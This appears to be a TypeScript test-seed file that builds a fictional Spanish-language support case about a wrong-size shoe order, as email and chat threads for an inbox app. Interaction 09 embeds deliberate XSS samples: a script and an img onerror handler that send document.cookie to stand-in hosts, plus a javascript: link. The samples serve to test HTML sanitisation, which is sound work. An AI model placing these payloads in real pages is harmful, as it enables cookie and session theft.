import type { Contact, EmailAddress } from '../../../model/index.js';
import { ago, buildCase, mailDate, textToHtml, type BuiltCase } from './builders.js';
import { INVOICE_PDF, PHOTO_JPEG, RETURN_LABEL_PDF, SHOE_PNG, seedAttachment } from './files.js';
import { ANA, LUCIA, MARCO, TIENDA_ANDINA } from './people.js';
import { SEED_IDS } from './seed-ids.js';
import type { VisitorRecord } from './types.js';

/**
 * The case of seed 000: Jorge Taype, #6597, an order of trail shoes that arrived in the wrong
 * size. 16 interactions over seven weeks, the 2 oldest closed and 14 open ("1 of 14"): email
 * threads and chat sessions, HTML with Gmail quotes, an inline `cid:` image, PDF and JPEG
 * attachments, remote images, unsafe HTML, a plain-text mail, CCs, a wrong Date header, and an
 * unread inbound email at the end.
 */

const ID = SEED_IDS.jorge;
const JORGE: EmailAddress = { name: 'Jorge Taype', address: ID.address };
const CARMEN: EmailAddress = { name: 'Carmen Rojas', address: 'contabilidad@estudiotaype.pe' };
const MARIA: EmailAddress = { name: 'María Quispe', address: 'maria.quispe.r@hotmail.com' };
const ALMACEN: EmailAddress = { name: 'Almacén Tienda Andina', address: 'almacen@tiendaandina.pe' };
const LUCIA_PERSONAL: EmailAddress = { name: 'Lucía Ramos', address: LUCIA.email };
const SUPPORT = TIENDA_ANDINA.fromAddress;

const SUBJECT = 'Pedido TA-48213: cambio de talla de zapatillas Trail Andes';

const sign = (agent: { name: string }) =>
  `Saludos cordiales,\n${agent.name}\nEquipo de Soporte · Tienda Andina`;

export function jorgeContact(anchor: number): Contact {
  return {
    id: ID.contactId,
    name: 'Jorge Taype',
    emails: [ID.address],
    phone: '+51 987 654 321',
    source: 'manual',
    createdAt: new Date(anchor - ago(119, 16, 0) * 60_000).toISOString(),
  };
}

export function jorgeVisitor(anchor: number): VisitorRecord {
  return {
    id: ID.visitorId,
    deviceId: ID.deviceId,
    name: 'Jorge Taype',
    email: ID.address,
    contactId: ID.contactId,
    lastSeenAt: new Date(anchor - ago(5, 17, 10) * 60_000).toISOString(),
  };
}

function forwardedCourierHtml(lang: 'es', deliveredAt: string): string {
  return (
    '<div dir="ltr"><p>Hola, me llegó esta notificación de que el nuevo par fue entregado, pero yo no he recibido nada. ¿Pueden revisar?</p><p>Jorge</p>' +
    '<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>' +
    'De: <strong class="gmail_sendername" dir="auto">Olva Courier</strong> <span dir="auto">&lt;notificaciones@olvacourier.example&gt;</span><br>' +
    `Date: ${mailDate(lang, deliveredAt)}<br>Subject: Tu envío OL-7734988 fue entregado<br>To: &lt;${ID.address}&gt;<br></div><br><br>` +
    '<div style="max-width:560px;margin:0 auto;font-family:Arial,sans-serif">' +
    '<div style="background:#0b3d91 url(\'https://cdn.olvacourier.example/mail/header-bg.png\') no-repeat center/cover;color:#ffffff;padding:28px 24px">' +
    '<h1 style="margin:0;font-size:22px">¡Tu envío fue entregado!</h1></div>' +
    '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background-image:url(https://cdn.olvacourier.example/mail/pattern.png)"><tr><td style="padding:24px">' +
    '<p>Hola Jorge,</p><p>Tu envío <b>OL-7734988</b> de <b>Tienda Andina</b> fue entregado.</p><p>Recibido por: <b>Portería</b></p>' +
    '<p><a href="https://olvacourier.example/seguimiento?codigo=OL-7734988&amp;utm_source=email&amp;utm_campaign=entrega" style="background:#f28c28;color:#ffffff;padding:10px 16px;border-radius:4px;text-decoration:none">Ver detalle del envío</a></p>' +
    '<img src="https://cdn.olvacourier.example/mail/logo-olva.png" alt="Olva Courier" width="120" height="32">' +
    '</td></tr></table>' +
    `<img src="https://track.olvacourier.example/o/8f2c1e9a7b.gif?r=${encodeURIComponent(ID.address)}" width="1" height="1" alt="" style="display:block;border:0">` +
    '</div></div></div>'
  );
}

const FORWARDED_TEXT = [
  'Hola, me llegó esta notificación de que el nuevo par fue entregado, pero yo no he recibido nada. ¿Pueden revisar?',
  '',
  'Jorge',
  '',
  '---------- Forwarded message ---------',
  'De: Olva Courier <notificaciones@olvacourier.example>',
  'Subject: Tu envío OL-7734988 fue entregado',
  '',
  '¡Tu envío fue entregado!',
  'Hola Jorge, tu envío OL-7734988 de Tienda Andina fue entregado.',
  'Recibido por: Portería',
  'Ver detalle del envío: https://olvacourier.example/seguimiento?codigo=OL-7734988',
].join('\n');

const UNSAFE_HTML =
  '<div dir="ltr"><p>Hola, les envío la reseña que me pidieron para la web (la copié del formulario):</p>' +
  '<div style="border:1px solid #dddddd;padding:12px;border-radius:8px">' +
  '<p><b>★★★★☆ Muy cómodas, pero revisen las tallas</b></p>' +
  '<p>Las Trail Andes son cómodas y ligeras; las usé en la ruta a Marcahuasi sin problemas. Les quito una estrella porque la primera vez me llegó la talla equivocada, aunque el cambio fue rápido.</p>' +
  '<img src="https://resenas.example/widget/estrellas-4.png" onerror="this.onerror=null;this.src=\'https://tracker.example/p.gif?c=\'+document.cookie" alt="4 estrellas">' +
  "<script>fetch('https://evil.example/collect?c=' + encodeURIComponent(document.cookie));</script>" +
  '<p><a href="javascript:alert(\'hola\')" onclick="alert(1)">Ver reseña completa</a></p>' +
  '</div><p>Saludos,<br>Jorge</p></div>';

const UNSAFE_TEXT =
  'Hola, les envío la reseña que me pidieron para la web (la copié del formulario):\n\n' +
  '★★★★☆ Muy cómodas, pero revisen las tallas\n\n' +
  'Las Trail Andes son cómodas y ligeras; las usé en la ruta a Marcahuasi sin problemas. Les quito una estrella porque la primera vez me llegó la talla equivocada, aunque el cambio fue rápido.\n\n' +
  'Ver reseña completa\n\nSaludos,\nJorge';

const INLINE_CID = 'ii_mh2k9x4z0';

export function jorgeCase(anchor: number): BuiltCase {
  const at = (minutesAgo: number) => new Date(anchor - minutesAgo * 60_000).toISOString();
  return buildCase(anchor, {
    id: ID.conversationId,
    number: ID.number,
    lang: 'es',
    campaign: TIENDA_ANDINA,
    contact: jorgeContact(anchor),
    subject: SUBJECT,
    status: 'open',
    read: false,
    visitorId: ID.visitorId,
    agent: LUCIA,
    interactions: [
      // 01 — closed: a plain-text question before buying.
      {
        channel: 'email',
        status: 'closed',
        subject: 'Consulta de stock: zapatillas Trail Andes talla 42',
        messages: [
          {
            dir: 'in',
            at: ago(48, 19, 12),
            html: false,
            text: 'Buenas tardes:\n\nQuisiera saber si tienen en stock las zapatillas Trail Andes en talla 42, color rojo. En la web aparece "últimas unidades".\n\nGracias,\nJorge Taype',
          },
          {
            dir: 'out',
            at: ago(48, 17, 40),
            text: `Hola Jorge,\n\nSí, nos quedan 3 pares de las Trail Andes rojas en talla 42. Puedes comprarlas en la web; el envío a Lima demora de 2 a 3 días hábiles.\n\n${sign(LUCIA)}`,
          },
        ],
      },
      // 02 — closed: a chat about payment methods.
      {
        channel: 'chat',
        status: 'closed',
        messages: [
          { dir: 'in', at: ago(45, 21, 20), text: 'Hola, ¿puedo pagar con Yape?' },
          {
            dir: 'out',
            at: ago(45, 21, 19),
            text: '¡Hola Jorge! Sí, aceptamos Yape, Plin y tarjetas Visa y Mastercard.',
          },
          {
            dir: 'in',
            at: ago(45, 21, 17),
            text: 'Perfecto. Y si pago con tarjeta, ¿puede ser en cuotas?',
          },
          {
            dir: 'out',
            at: ago(45, 21, 16),
            text: 'Con tarjetas de crédito BCP e Interbank puedes pagar hasta en 6 cuotas sin intereses.',
          },
          { dir: 'in', at: ago(45, 21, 14), text: 'Genial, gracias 👍' },
        ],
      },
      // 03 — the order is confirmed; Gmail quote in the last message.
      {
        channel: 'email',
        subject: 'Pedido TA-48213 confirmado: consulta por fecha de entrega',
        messages: [
          {
            dir: 'in',
            at: ago(42, 22, 5),
            text: 'Hola:\n\nAcabo de hacer el pedido TA-48213 (zapatillas Trail Andes, talla 42). ¿Me podrían confirmar la fecha de entrega? Necesito que lleguen antes del sábado.\n\nGracias,\nJorge',
          },
          {
            dir: 'out',
            at: ago(42, 20, 30),
            text: `Hola Jorge,\n\nTu pedido TA-48213 ya fue confirmado y sale de nuestro almacén mañana temprano. La entrega estimada es el jueves, entre las 9:00 y las 18:00, así que llegará antes del sábado.\n\n${sign(LUCIA)}`,
          },
          {
            dir: 'in',
            at: ago(42, 19, 58),
            quote: true,
            text: 'Perfecto, muchas gracias Lucía. Estaré atento.\n\nJorge',
          },
        ],
      },
      // 04 — chat: tracking code.
      {
        channel: 'chat',
        messages: [
          {
            dir: 'in',
            at: ago(40, 18, 45),
            text: 'Hola, ¿ya salió mi pedido? No me llegó el código de seguimiento',
          },
          {
            dir: 'out',
            at: ago(40, 18, 43),
            text: 'Hola Jorge, sí, salió hoy por Olva Courier. Tu código de seguimiento es OL-7734521.',
          },
          { dir: 'in', at: ago(40, 18, 41), text: '¿Dónde lo puedo rastrear?' },
          {
            dir: 'out',
            at: ago(40, 18, 40),
            text: 'En olvacourier.example/seguimiento, ingresando el código. También te llegará un correo con el enlace.',
          },
          { dir: 'in', at: ago(40, 18, 37), text: 'Listo, ya lo veo. Gracias' },
        ],
      },
      // 05 — wrong size: inline cid: image and a JPEG attachment; agent copies the warehouse.
      {
        channel: 'email',
        subject: 'Pedido TA-48213 llegó con talla equivocada',
        messages: [
          {
            dir: 'in',
            at: ago(37, 23, 10),
            html:
              '<div dir="ltr"><p>Hola,</p><p>Hoy recibí el pedido TA-48213, pero me enviaron talla 40 en lugar de 42. Les mando la foto de la etiqueta:</p>' +
              `<p><img src="cid:${INLINE_CID}" alt="etiqueta-talla.png" width="240" height="160"></p>` +
              '<p>También adjunto una foto de la caja. ¿Cómo hago el cambio?</p><p>Saludos,<br>Jorge</p></div>',
            text: 'Hola,\n\nHoy recibí el pedido TA-48213, pero me enviaron talla 40 en lugar de 42. Les mando la foto de la etiqueta:\n\n[image: etiqueta-talla.png]\n\nTambién adjunto una foto de la caja. ¿Cómo hago el cambio?\n\nSaludos,\nJorge',
            attachments: [
              seedAttachment('att-6597-05-01', 'etiqueta-talla.png', SHOE_PNG, {
                contentId: INLINE_CID,
              }),
              seedAttachment('att-6597-05-02', 'IMG_20261013_181544.jpg', PHOTO_JPEG),
            ],
          },
          {
            dir: 'out',
            at: ago(37, 21, 55),
            cc: [ALMACEN],
            text: `Hola Jorge,\n\nLamentamos mucho el error. Ya coordiné con nuestro almacén (en copia) el cambio por la talla 42, sin ningún costo para ti. Un courier recogerá el par equivocado y te enviaremos la guía de devolución por correo.\n\n${sign(LUCIA)}`,
          },
          {
            dir: 'in',
            at: ago(37, 21, 20),
            cc: [ALMACEN],
            quote: true,
            text: 'Gracias. ¿El recojo puede ser por la tarde? En la mañana no hay nadie en casa; estará mi esposa, María.\n\nJorge',
          },
          {
            dir: 'out',
            at: ago(37, 20, 50),
            cc: [ALMACEN],
            quote: true,
            text: `Hola Jorge,\n\nSí, el recojo quedó programado para el martes entre las 14:00 y las 18:00.\n\n${sign(LUCIA)}`,
          },
        ],
      },
      // 06 — agent-initiated email with the return label (PDF), copying Jorge's wife.
      {
        channel: 'email',
        subject: 'Guía de devolución del pedido TA-48213',
        messages: [
          {
            dir: 'out',
            at: ago(35, 22, 0),
            cc: [MARIA],
            text: `Hola Jorge,\n\nTe adjuntamos la guía de devolución. Imprímela y pégala en la caja. Como nos indicaste, enviamos copia a María, quien entregará el paquete.\n\n${sign(LUCIA)}`,
            attachments: [
              seedAttachment('att-6597-06-01', 'guia-devolucion-TA-48213.pdf', RETURN_LABEL_PDF),
            ],
          },
          {
            dir: 'in',
            at: ago(35, 20, 45),
            cc: [MARIA],
            quote: true,
            text: 'Recibido, gracias. Ya la imprimimos.\n\nJorge',
          },
        ],
      },
      // 07 — chat: the courier did not come; the supervisor answers.
      {
        channel: 'chat',
        messages: [
          { dir: 'in', at: ago(33, 20, 30), text: 'Hola, el courier no vino ayer 😕' },
          {
            dir: 'out',
            at: ago(33, 20, 28),
            agent: MARCO,
            text: 'Hola Jorge, soy Marco, supervisor. Lo siento mucho: Olva tuvo un problema con la ruta. Reprogramamos el recojo para hoy, de 14:00 a 18:00.',
          },
          { dir: 'in', at: ago(33, 20, 25), text: 'Ok, ¿me avisan cuando esté en camino?' },
          {
            dir: 'out',
            at: ago(33, 20, 24),
            agent: MARCO,
            text: 'Claro, te escribimos por aquí apenas salga.',
          },
          {
            dir: 'out',
            at: ago(33, 16, 55),
            agent: MARCO,
            text: 'El courier ya está en camino; llega en unos 30 minutos.',
          },
          { dir: 'in', at: ago(33, 16, 10), text: 'Ya lo entregamos, gracias Marco' },
        ],
      },
      // 08 — a forwarded courier notification with remote images and CSS url() backgrounds.
      {
        channel: 'email',
        subject: 'Fwd: Tu envío OL-7734988 fue entregado',
        messages: [
          {
            dir: 'in',
            at: ago(30, 20, 0),
            html: forwardedCourierHtml('es', at(ago(30, 22, 20))),
            text: FORWARDED_TEXT,
          },
          {
            dir: 'out',
            at: ago(30, 18, 30),
            text: `Hola Jorge,\n\nRevisamos con Olva: el paquete se dejó en la recepción de tu edificio y lo firmó "Portería". ¿Podrías consultar allí?\n\n${sign(LUCIA)}`,
          },
          {
            dir: 'in',
            at: ago(30, 17, 15),
            quote: true,
            text: 'Efectivamente, estaba en portería. ¡Gracias!\n\nJorge',
          },
        ],
      },
      // 09 — a review pasted from a web form: <script>, onerror=, javascript: link.
      {
        channel: 'email',
        subject: 'Mi reseña de las Trail Andes',
        messages: [
          { dir: 'in', at: ago(26, 21, 40), html: UNSAFE_HTML, text: UNSAFE_TEXT },
          {
            dir: 'out',
            at: ago(26, 19, 5),
            agent: MARCO,
            text: `Hola Jorge,\n\n¡Gracias por tu reseña! La publicaremos en la web esta semana.\n\n${sign(MARCO)}`,
          },
        ],
      },
      // 10 — chat: an expired coupon.
      {
        channel: 'chat',
        messages: [
          {
            dir: 'in',
            at: ago(24, 0, 12),
            text: '¡Hola! Tengo el cupón ANDINA10 pero la web dice que no es válido',
          },
          {
            dir: 'out',
            at: ago(24, 0, 10),
            text: 'Hola Jorge, ese cupón venció el domingo 😕 Pero te puedo dar ANDES-JT15, con 15 % de descuento, válido por 7 días.',
          },
          { dir: 'in', at: ago(24, 0, 8), text: '¡Buenísimo, gracias!' },
        ],
      },
      // 11 — shipping refund; the sender's phone clock was a month ahead (originDate in the future).
      {
        channel: 'email',
        subject: 'Reembolso del costo de envío',
        messages: [
          {
            dir: 'in',
            at: ago(18, 18, 35),
            originOffsetSeconds: (30 * 24 + 2) * 3600 + 17 * 60,
            text: 'Hola:\n\nComo el error de talla fue de la tienda, ¿me podrían devolver los S/ 15.00 del envío original?\n\nEnviado desde mi celular',
          },
          {
            dir: 'out',
            at: ago(18, 16, 50),
            text: `Hola Jorge,\n\nPor supuesto. Procedimos con el reembolso de S/ 15.00 a tu tarjeta; se verá reflejado en 5 a 10 días hábiles.\n\n${sign(LUCIA)}`,
          },
        ],
      },
      // 12 — chat: a colour out of stock.
      {
        channel: 'chat',
        messages: [
          { dir: 'in', at: ago(14, 19, 2), text: 'Hola, ¿tienen las Trail Andes en azul?' },
          {
            dir: 'out',
            at: ago(14, 19, 1),
            text: 'Hola Jorge, en azul solo quedan tallas 39 y 41. Esperamos reposición en diciembre.',
          },
          { dir: 'in', at: ago(14, 18, 59), text: 'Ok, me avisan por favor' },
          {
            dir: 'out',
            at: ago(14, 18, 58),
            text: '¡Claro! Te anoté en la lista de aviso de reposición.',
          },
        ],
      },
      // 13 — invoice request: CC to his accountant and to the agent's own address; PDFs.
      {
        channel: 'email',
        subject: 'Solicitud de factura del pedido TA-48213',
        messages: [
          {
            dir: 'in',
            at: ago(9, 22, 30),
            cc: [CARMEN, LUCIA_PERSONAL],
            text: 'Hola Lucía:\n\nNecesito la factura del pedido TA-48213 a nombre de mi empresa:\nTaype Consultores S.A.C.\nRUC 20512345678\n\nCopio a Carmen, de contabilidad.\n\nGracias,\nJorge',
          },
          {
            dir: 'out',
            at: ago(9, 20, 10),
            cc: [CARMEN],
            text: `Hola Jorge,\n\nTe adjuntamos la factura electrónica F001-00038127. La boleta emitida antes queda anulada.\n\n${sign(LUCIA)}`,
            attachments: [seedAttachment('att-6597-13-01', 'F001-00038127.pdf', INVOICE_PDF)],
          },
          {
            dir: 'in',
            at: ago(9, 14, 40),
            from: CARMEN,
            to: [SUPPORT],
            cc: [JORGE],
            quote: true,
            text: 'Buenos días:\n\nLa dirección fiscal de la factura no es la correcta. La dirección es Av. Arequipa 1234, Of. 502, Lince, Lima.\n\nSaludos,\nCarmen Rojas\nEstudio Contable Taype',
          },
          {
            dir: 'out',
            at: ago(9, 13, 5),
            to: [CARMEN],
            cc: [JORGE],
            quote: true,
            text: `Hola Carmen,\n\nGracias por el aviso. Corregimos la dirección; adjuntamos la factura corregida.\n\n${sign(LUCIA)}`,
            attachments: [
              seedAttachment('att-6597-13-02', 'F001-00038127-corregida.pdf', INVOICE_PDF),
            ],
          },
          {
            dir: 'in',
            at: ago(9, 12, 0),
            cc: [CARMEN],
            quote: true,
            text: 'Perfecto, muchas gracias a ambas.\n\nJorge',
          },
        ],
      },
      // 14 — chat: refund status.
      {
        channel: 'chat',
        messages: [
          { dir: 'in', at: ago(5, 17, 20), text: 'Hola, ¿el reembolso del envío ya se hizo?' },
          {
            dir: 'out',
            at: ago(5, 17, 18),
            agent: MARCO,
            text: 'Hola Jorge, sí, se procesó hace unos días. Puede tardar hasta 10 días hábiles en verse en tu estado de cuenta.',
          },
          { dir: 'in', at: ago(5, 17, 15), text: 'Perfecto, lo espero entonces. Gracias' },
          {
            dir: 'out',
            at: ago(5, 17, 14),
            agent: MARCO,
            text: '¡A ti! ¿Te puedo ayudar en algo más?',
          },
        ],
      },
      // 15 — a long thread with the coordinator about loyalty points.
      {
        channel: 'email',
        subject: 'Puntos Andina no cargados por el pedido TA-48213',
        messages: [
          {
            dir: 'in',
            at: ago(3, 23, 0),
            text: 'Hola:\n\nEn mi cuenta no aparecen los 390 Puntos Andina de la compra TA-48213.\n\nJorge',
          },
          {
            dir: 'out',
            at: ago(3, 21, 30),
            agent: ANA,
            text: `Hola Jorge,\n\nSoy Ana, coordinadora del equipo. Los puntos se cargan 15 días después de la entrega; como hubo un cambio de producto, el plazo se reinició.\n\n${sign(ANA)}`,
          },
          {
            dir: 'in',
            at: ago(3, 20, 45),
            quote: true,
            text: 'Ya pasaron más de 15 días desde el cambio. ¿Pueden revisarlo?\n\nJorge',
          },
          {
            dir: 'out',
            at: ago(3, 18, 10),
            agent: ANA,
            quote: true,
            text: `Hola Jorge,\n\nTienes razón. Los cargamos manualmente: ya deberías ver 390 puntos, más 100 de cortesía por las molestias.\n\n${sign(ANA)}`,
          },
          {
            dir: 'in',
            at: ago(3, 15, 30),
            quote: true,
            text: 'Ahora veo los 390, pero no los 100 de cortesía.\n\nJorge',
          },
          {
            dir: 'out',
            at: ago(3, 13, 0),
            agent: ANA,
            quote: true,
            text: `Hola Jorge,\n\nLos 100 puntos de cortesía se reflejan en 24 horas. Si mañana no los ves, respóndeme este correo y lo reviso personalmente.\n\n${sign(ANA)}`,
          },
        ],
      },
      // 16 — newest: warranty question; the last inbound message is unread.
      {
        channel: 'email',
        subject: 'Consulta: garantía de las zapatillas Trail Andes',
        messages: [
          {
            dir: 'in',
            at: ago(0, 18, 0),
            text: 'Hola:\n\nA las zapatillas se les está despegando la suela del pie izquierdo, después de un mes de uso. ¿Lo cubre la garantía?\n\nGracias,\nJorge',
          },
          {
            dir: 'out',
            at: ago(0, 14, 15),
            text: `Hola Jorge,\n\nSí, la garantía cubre defectos de fabricación por 6 meses. ¿Podrías enviarnos una foto de la zona despegada?\n\n${sign(LUCIA)}`,
          },
          {
            dir: 'in',
            at: ago(0, 0, 20),
            quote: true,
            html: textToHtml('Claro, adjunto la foto. Se nota sobre todo en la punta.\n\nJorge'),
            text: 'Claro, adjunto la foto. Se nota sobre todo en la punta.\n\nJorge',
            attachments: [seedAttachment('att-6597-16-01', 'IMG_20261120_093811.jpg', PHOTO_JPEG)],
          },
        ],
      },
    ],
  });
}
